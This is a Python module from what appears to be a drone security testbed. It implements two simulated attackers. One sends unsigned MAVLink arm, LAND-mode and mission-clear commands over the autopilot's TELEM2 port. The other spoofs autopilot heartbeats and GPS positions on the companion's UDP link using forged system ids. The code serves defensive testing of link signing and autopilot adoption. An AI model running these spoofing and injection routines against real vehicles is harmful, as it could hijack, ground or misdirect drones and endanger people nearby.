"""TESTBED ONLY: on the vehicle, without any credential: a process on the companion host that can
write into the drone's UDP vehicle link, and a radio on the autopilot's second MAVLink port.

``fc-radio``: no credentials at all, only a radio on the autopilot's second MAVLink port (TELEM2,
``--fc-port``: the simulator's ``--telem2`` endpoint). It sends HEARTBEATs as a GCS, learns the
autopilot from its telemetry, and when told to attack sends COMMAND_LONG arm, a mode change to LAND
and MISSION_CLEAR_ALL once a second, and counts the answers. With the flight controller's link
signed none may be obeyed (no answer at all); without signing the autopilot obeys it: the takeover.

``fake-autopilot``: no credentials at all, only a process on the companion host that can write into
the drone's UDP vehicle link (``--vehicle-port``: where the companion listens for its autopilot, as on
PX4's onboard link). From before the drone starts it sends the HEARTBEAT of a fake autopilot (sysid
``FAKE_AUTOPILOT_SYSID``) and positions at B's centre, 50 a second, racing the real autopilot; when
told to attack (in flight) it sends, with the autopilot's own ids (the drone's sysid, component 1),
HEARTBEATs in LAND mode, GLOBAL_POSITION_INT at B's centre at 30 m, a 3D GPS fix and "in air", 20 a
second (without ``--wait-go``: races for half of ``--duration``, forges for the other half). It counts everything the companion sends it (a naive link adopts it and sends it the signing
key, the stream requests, the failsafe). The drone must never adopt it, never send it anything, and
its coverage and authority must never follow the forged positions.
"""

from __future__ import annotations

import socket
import time
from collections import Counter

from pymavlink.dialects.v20 import common as mav

from zdrone.core import fcsign
from zdrone.core.fleet import ConfigError
from zdrone.core.mavlink import FrameCodec
from zdrone.sil import testbed_records as trec
from zdrone.sil.attackers.common import ROGUE_COMPID, Ctx, gcs_heartbeat


#: The fc-radio attacker's MAVLink system id (a GCS nobody configured).
FC_RADIO_SYSID = 250


#: The fake-autopilot attacker's own system id (issue 29: a fake autopilot "system 7").
FAKE_AUTOPILOT_SYSID = 7


def fc_radio(c: Ctx) -> None:
    """The attacker on the autopilot's TELEM2 (see the module's docstring)."""
    from zdrone.vehicle.modes import set_mode_params
    from zdrone.vehicle.transport import MavTransport

    if c.fc_port is None:
        raise ConfigError("--fc-port is required for fc-radio")
    radio = MavTransport(f"udpout:127.0.0.1:{c.fc_port}")
    codec = FrameCodec(FC_RADIO_SYSID, ROGUE_COMPID)
    sent: Counter[str] = Counter()
    answers: Counter[str] = Counter()
    seen: Counter[str] = Counter()
    autopilot: list[int] = []
    names = {mav.MAV_CMD_COMPONENT_ARM_DISARM: "arm", mav.MAV_CMD_DO_SET_MODE: "mode_land"}

    def listen(seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for frame, _ in radio.poll(min(0.05, max(0.0, end - time.monotonic()))):
                seen["signed" if frame[0] == 0xFD and frame[2] & 1 else "unsigned"] += 1
                msg = codec.decode(frame)
                if msg is None:
                    continue
                t = msg.get_type()
                if t == "HEARTBEAT" and msg.autopilot != mav.MAV_AUTOPILOT_INVALID and not autopilot:
                    autopilot.append(msg.autopilot)
                elif t == "COMMAND_ACK" and msg.target_system == FC_RADIO_SYSID and msg.command in names:
                    answers[f"{names[msg.command]}:{'accepted' if msg.result == 0 else 'refused'}"] += 1
                elif t == "MISSION_ACK" and msg.target_system == FC_RADIO_SYSID:
                    answers[f"mission_clear:{'accepted' if msg.type == 0 else 'refused'}"] += 1

    def heartbeat() -> None:
        radio.send(codec.encode(gcs_heartbeat()))

    try:
        heartbeat()
        c.ready()
        if not c.wait_for_go():
            return
        going = c.attack_window()
        until = time.monotonic() + 5.0
        while not autopilot and time.monotonic() < until:  # its telemetry says which autopilot (its mode numbers)
            heartbeat()
            listen(0.5)
        while going():
            heartbeat()
            if answers["mode_land:accepted"]:  # taken over: the vehicle lands where the attacker said
                listen(1.0)
                continue
            ap = "ardupilot" if autopilot and autopilot[0] == mav.MAV_AUTOPILOT_ARDUPILOTMEGA else "px4"
            land = set_mode_params(ap, "LAND") or (1.0, 4.0, 6.0)
            nan = float("nan")
            for label, msg in (
                ("arm", mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_COMPONENT_ARM_DISARM, 0, 1, 0, 0, 0, 0, 0, 0)),
                ("mode_land", mav.MAVLink_command_long_message(1, 1, mav.MAV_CMD_DO_SET_MODE, 0, *land, nan, nan, nan, nan)),
                ("mission_clear", mav.MAVLink_mission_clear_all_message(1, 1, 0)),
            ):
                radio.send(codec.encode(msg))
                sent[label] += 1
            listen(1.0)
        listen(0.5)
        obeyed = sum(n for k, n in answers.items() if k.endswith(":accepted"))
        c.events.write("attack_done", sent=dict(sent), answers=dict(answers), obeyed=obeyed,
                       answered=sum(answers.values()), telemetry=dict(seen),
                       autopilot=autopilot[0] if autopilot else None)
    finally:
        radio.close()


def fake_autopilot_frames(sysid: int, lat: float, lon: float, alt_m: float, armed: bool, mode: int) -> list[bytes]:
    """What a fake autopilot ``sysid`` says: its HEARTBEAT (PX4, custom ``mode``), a position with a 3D fix
    and its landed state (in air when armed)."""
    codec = FrameCodec(sysid, mav.MAV_COMP_ID_AUTOPILOT1)
    base = mav.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED | (mav.MAV_MODE_FLAG_SAFETY_ARMED if armed else 0)
    landed = mav.MAV_LANDED_STATE_IN_AIR if armed else mav.MAV_LANDED_STATE_ON_GROUND
    return [codec.encode(m) for m in (
        mav.MAVLink_heartbeat_message(mav.MAV_TYPE_QUADROTOR, mav.MAV_AUTOPILOT_PX4, base, mode, mav.MAV_STATE_ACTIVE, 3),
        mav.MAVLink_gps_raw_int_message(0, 3, int(lat * 1e7), int(lon * 1e7), int(alt_m * 1000), 100, 100, 0, 0, 12),
        mav.MAVLink_global_position_int_message(0, int(lat * 1e7), int(lon * 1e7), int(alt_m * 1000),
                                                int(alt_m * 1000), 0, 0, 0, 0),
        mav.MAVLink_extended_sys_state_message(0, landed))]


def fake_autopilot(c: Ctx) -> None:
    """The fake autopilot on the companion host (see the module's docstring)."""
    from zdrone.core.reference import GS_B
    from zdrone.vehicle.modes import custom_mode

    if c.vehicle_port is None:
        raise ConfigError("--vehicle-port is required for fake-autopilot")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.setblocking(False)
    target = ("127.0.0.1", c.vehicle_port)
    drone_sysid = c.fleet.nodes[c.drone].sysid
    sent: Counter[str] = Counter()
    heard: Counter[str] = Counter()  # what the companion sent the fake, by message
    codec = FrameCodec(FAKE_AUTOPILOT_SYSID, mav.MAV_COMP_ID_AUTOPILOT1)
    land = custom_mode("px4", "LAND") or 0
    mission = custom_mode("px4", "MISSION") or 0

    def send(frames: list[bytes], label: str) -> None:
        for f in frames:
            try:
                sock.sendto(f, target)
            except OSError:  # nobody listening yet (the companion not started): ICMP, try again next turn
                sent["refused"] += 1
                return
        sent[label] += 1

    def listen() -> None:
        while True:
            try:
                data = sock.recv(65535)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                continue
            msg = codec.decode(fcsign.strip(data) if fcsign.is_signed(data) else data)
            heard[msg.get_type() if msg is not None else "unparsed"] += 1

    try:
        race = fake_autopilot_frames(FAKE_AUTOPILOT_SYSID, GS_B.lat, GS_B.lon, 0.0, False, mission)
        send(race, "raced")
        c.ready()
        race_until = time.monotonic() + c.duration / 2  # without --wait-go: the first half of the duration
        racing = True
        while racing and not c.stop.is_set():  # racing the real autopilot to the companion, until told
            send(race, "raced")
            listen()
            racing = not c.go.wait(0.02) if c.wait_go else not c.stop.wait(0.02) and time.monotonic() < race_until
        if c.wait_go and not c.go.is_set():
            c.events.write_record(trec.RogueNoGo(stopped=c.stop.is_set()))
            return
        if c.wait_go:
            c.events.write_record(trec.RogueGo())
        going = c.attack_window()
        print("rogue: forging with the autopilot's own ids", flush=True)
        while going():
            send(fake_autopilot_frames(drone_sysid, GS_B.lat, GS_B.lon, 30.0, True, land), "forged_own_ids")
            send(race, "raced")
            listen()
            time.sleep(0.05)
        listen()
        c.events.write("attack_done", sent=dict(sent), heard=dict(heard), heard_total=sum(heard.values()),
                       fake_sysid=FAKE_AUTOPILOT_SYSID, own_ids=[drone_sysid, mav.MAV_COMP_ID_AUTOPILOT1],
                       forged_position=[GS_B.lat, GS_B.lon, 30.0])
    finally:
        sock.close()
